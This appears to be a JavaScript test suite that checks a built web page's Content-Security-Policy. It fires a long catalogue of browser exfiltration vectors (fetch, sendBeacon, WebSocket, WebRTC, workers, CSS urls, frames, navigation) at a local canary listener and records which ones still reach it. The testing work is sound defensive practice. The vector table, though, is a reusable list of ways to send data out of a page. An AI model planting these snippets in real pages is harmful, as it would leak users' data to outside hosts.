// Each way by which a page could send something away, tried from inside the built page against a listener of its own,
// and pinned: a browser or a build that lets one through is noticed. docs/hosting.md explains what remains.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { canary } from './canary.mjs';
import { launch } from './chromium.mjs';

// Each runs in the page with { http: 'http://127.0.0.1:…/', port, udp }. What it throws is nothing.
const put = (name, set, before = '') => `const e = document.createElement('${name}'); ${before} ${set}; document.body.append(e);`;
const link = (rel, more = '') => `const e = document.createElement('link'); e.rel = '${rel}'; ${more} e.href = to.http; document.head.append(e);`;
const inWorker = (code) =>
  `const text = ${JSON.stringify(code)}.replaceAll('ADDRESS', to.http).replaceAll('PORT', to.port);
   const Made = Worker; const url = URL.createObjectURL(new Blob([text]));
   const policy = trustedTypes.createPolicy('bartizan-worker', { createScriptURL: (u) => u }); new Made(policy.createScriptURL(url));`;

const VECTORS = {
  fetch: 'await fetch(to.http, { mode: "no-cors" })',
  'fetch, keepalive': 'await fetch(to.http, { mode: "no-cors", method: "POST", body: "secret", keepalive: true })',
  'fetch, later': 'fetchLater(to.http, { activateAfter: 0 })',
  XMLHttpRequest: 'const x = new XMLHttpRequest(); x.open("GET", to.http); x.send()',
  sendBeacon: 'navigator.sendBeacon(to.http, "secret")',
  WebSocket: 'new WebSocket(`ws://127.0.0.1:${to.port}/`)',
  WebSocketStream: 'new WebSocketStream(`ws://127.0.0.1:${to.port}/`)',
  EventSource: 'new EventSource(to.http)',
  WebTransport: 'await new WebTransport(`https://127.0.0.1:${to.udp}/`).ready',
  WebRTC: `const peer = new (globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection)({ iceServers: [{ urls: 'stun:127.0.0.1:' + to.udp }] });
    peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())`,
  img: put('img', 'e.src = to.http'),
  'img, srcset': put('img', 'e.srcset = `${to.http} 1x`'),
  'SVG image': `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const e = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    e.setAttribute('href', to.http); s.append(e); document.body.append(s)`,
  'SVG use': `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const e = document.createElementNS('http://www.w3.org/2000/svg', 'use');
    e.setAttribute('href', to.http + '#a'); s.append(e); document.body.append(s)`,
  'CSS url': put('div', 'e.style.backgroundImage = `url(${to.http})`; e.style.height = "9px"'),
  'CSS cursor': 'document.body.style.cursor = `url(${to.http}), auto`',
  'CSS sheet': 'const s = new CSSStyleSheet(); s.replaceSync(`body { background: url(${to.http}) }`); document.adoptedStyleSheets = [s]',
  'CSS import': put('style', 'e.textContent = `@import url(${to.http});`'),
  font: 'await new FontFace("x", `url(${to.http})`).load()',
  stylesheet: link('stylesheet'),
  script: put('script', 'e.src = to.http'),
  'module script': put('script', 'e.src = to.http', 'e.type = "module";'),
  'import()': 'await import(to.http)',
  object: put('object', 'e.data = to.http'),
  embed: put('embed', 'e.src = to.http'),
  video: put('video', 'e.src = to.http; e.load()'),
  poster: put('video', 'e.poster = to.http'),
  audio: 'new Audio(to.http).load()',
  track: put('video', 'const t = document.createElement("track"); t.src = to.http; t.default = true; e.append(t); e.src = "data:video/mp4,"'),
  'input image': put('input', 'e.src = to.http', 'e.type = "image";'),
  iframe: put('iframe', 'e.src = to.http'),
  'iframe, srcdoc': put('iframe', 'e.srcdoc = `<img src="${to.http}">`'),
  prefetch: link('prefetch'),
  prerender: link('prerender'),
  preload: link('preload', 'e.as = "image";'),
  modulepreload: link('modulepreload'),
  preconnect: link('preconnect'),
  'dns-prefetch': link('dns-prefetch'),
  manifest: link('manifest'),
  icon: link('icon'),
  speculation: put('script', 'e.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [to.http] }] })', 'e.type = "speculationrules";'),
  'a ping': 'const e = document.createElement("a"); e.href = "#here"; e.ping = to.http; document.body.append(e); e.click()',
  'form': put('form', 'e.action = to.http; e.method = "post"') + ' e.submit()',
  'form, new tab': put('form', 'e.action = to.http; e.target = "_blank"') + ' e.submit()',
  'service worker': 'await navigator.serviceWorker.register(to.http)',
  'shared worker': 'new SharedWorker(to.http)',
  worklet: 'await CSS.paintWorklet.addModule(to.http)',
  'audio worklet': 'await new AudioContext().audioWorklet.addModule(to.http)',
  'worker: fetch': inWorker('fetch("ADDRESS", { mode: "no-cors" })'),
  'worker: XMLHttpRequest': inWorker('const x = new XMLHttpRequest(); x.open("GET", "ADDRESS"); x.send()'),
  'worker: WebSocket': inWorker('new WebSocket("ws://127.0.0.1:PORT/")'),
  'worker: importScripts': inWorker('importScripts("ADDRESS")'),
  'worker: import()': inWorker('import("ADDRESS")'),
  'worker: EventSource': inWorker('new EventSource("ADDRESS")'),
  'location': 'location.href = to.http + "?secret"',
  'location.replace': 'location.replace(to.http + "?secret")',
  'navigation.navigate': 'navigation.navigate(to.http + "?secret")',
  'link clicked': 'const e = document.createElement("a"); e.href = to.http; document.body.append(e); e.click()',
  'link clicked, new tab': 'const e = document.createElement("a"); e.href = to.http; e.target = "_blank"; document.body.append(e); e.click()',
  'link clicked, new tab, SVG': `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const e = document.createElementNS('http://www.w3.org/2000/svg', 'a');
    e.setAttribute('href', to.http); e.setAttribute('target', '_blank'); s.append(e); document.body.append(s); e.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))`,
  'link clicked, new tab, not in the page': 'const e = document.createElement("a"); e.href = to.http; e.target = "_blank"; e.click()',
  'link clicked, download': 'const e = document.createElement("a"); e.href = to.http; e.download = "x"; document.body.append(e); e.click()',
  'meta refresh': 'const e = document.createElement("meta"); e.httpEquiv = "refresh"; e.content = `0;url=${to.http}`; document.head.append(e)',
  'window.open': 'window.open(to.http)',
  'document.open': 'document.open(to.http, "x", "noopener")',
  'javascript: address': 'location.href = `javascript:fetch("${to.http}")`',
  eval: 'eval(`fetch("${to.http}")`)',
  'timer with text': 'setTimeout(`fetch("${to.http}")`)',
  'frame of our own: img': put('iframe', 'e.src = URL.createObjectURL(new Blob([`<img src="${to.http}">`], { type: "text/html" }))'),
  'frame of our own: script': put('iframe', 'e.src = URL.createObjectURL(new Blob([`<script>fetch("${to.http}")</script>`], { type: "text/html" }))'),
  'frame of our own: style': put('iframe', 'e.src = URL.createObjectURL(new Blob([`<style>body { background: url(${to.http}) }</style>`], { type: "text/html" }))'),
  'frame: fetch': put('iframe', '') + ' await e.contentWindow.fetch(to.http, { mode: "no-cors" })',
  'frame: img': put('iframe', '') + ' const i = e.contentDocument.createElement("img"); i.src = to.http; e.contentDocument.body.append(i)',
  'frame: location': put('iframe', '') + ' e.contentWindow.location.href = to.http',
  'frame: window.open': put('iframe', '') + ' e.contentWindow.open(to.http)',
  'frame: top': put('iframe', '') + ' e.contentWindow.top.location.href = to.http',
  'frame: WebRTC': `${put('iframe', '')} const peer = new e.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + to.udp }] });
    peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())`,
};

// What policy and guard together do not stop; every other vector must be heard as nothing. A connection is opened
// ahead of the request that the policy then refuses; no data comes over it, and it may be left out.
const HEARD = {
  iframe: 'a connection',
  'form, new tab': 'a connection',
  'frame: location': 'a connection',
  // These take code that is already hostile: the guard is there against mistakes and dependencies.
  'link clicked, new tab, not in the page': 'data',
  'frame: window.open': 'data',
  'frame: WebRTC': 'data',
};

// Without policy and guard the listeners hear these: the test can fail.
const CONTROLS = ['fetch', 'img', 'WebSocket', 'WebRTC', 'stylesheet', 'iframe', 'worker: fetch', 'location', 'meta refresh', 'window.open', 'link clicked, new tab', 'eval'];

const html = readFileSync(new URL('../../dist/bartizan.html', import.meta.url), 'utf8');
const [policy] = html.match(/<meta http-equiv="Content-Security-Policy"[^>]*>/);
// No header helps: what is tried is the file alone. The page has used up its one right to start a worker, so a page
// that has the same policy and no script tries what a worker could do.
const PAGES = {
  '/': html,
  '/policy': `<!doctype html><meta charset="utf-8">${policy}<title>policy</title>`,
  '/nothing': '<!doctype html><meta charset="utf-8"><title>nothing</title>',
};

let browser;
let server;
let origin;
before(async () => {
  browser = await launch();
  server = createServer((request, response) => {
    const body = PAGES[request.url];
    response.writeHead(body ? 200 : 404, { 'Content-Type': 'text/html' }).end(body);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${server.address().port}`;
});
after(async () => {
  await browser?.close();
  server?.close();
});

const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** What is heard of a vector tried in a page, and where the page is then. What is sure to be heard is waited for. */
async function tried(code, path, sure) {
  const ear = await canary();
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    await page.goto(origin + path);
    const session = await context.newCDPSession(page);
    const to = { http: `http://127.0.0.1:${ear.port}/`, port: ear.port, udp: ear.udp };
    // As after a click of the reader, which opens more doors.
    const settled = session.send('Runtime.evaluate', {
      expression: `(async (to) => { ${code} })(${JSON.stringify(to)}).catch(() => {})`,
      awaitPromise: true,
      userGesture: true,
    });
    await Promise.race([settled.catch(() => {}), pause(700)]);
    await pause(500);
    for (let tries = 0; sure && kind(ear.heard()) !== sure && tries < 50; tries++) await pause(100);
    return { heard: ear.heard(), moved: page.url().split('#')[0] !== origin + path };
  } finally {
    await context.close();
    ear.close();
  }
}

const kind = (heard) => heard.split(':')[0];

describe('ways out of the page', { concurrency: 4 }, () => {
  for (const [name, code] of Object.entries(VECTORS)) {
    test(name, async () => {
      const expected = HEARD[name] ?? 'nothing';
      const { heard, moved } = await tried(code, name.startsWith('worker: ') ? '/policy' : '/', expected === 'data' && expected);
      if (expected !== 'a connection' || heard !== 'nothing') assert.equal(kind(heard), expected, heard);
      assert.equal(moved, false, 'the page is where it was');
    });
  }
});

describe('the same without policy and guard', { concurrency: 4 }, () => {
  for (const name of CONTROLS) {
    test(name, async () => assert.equal(kind((await tried(VECTORS[name], '/nothing', 'data')).heard), 'data'));
  }
});
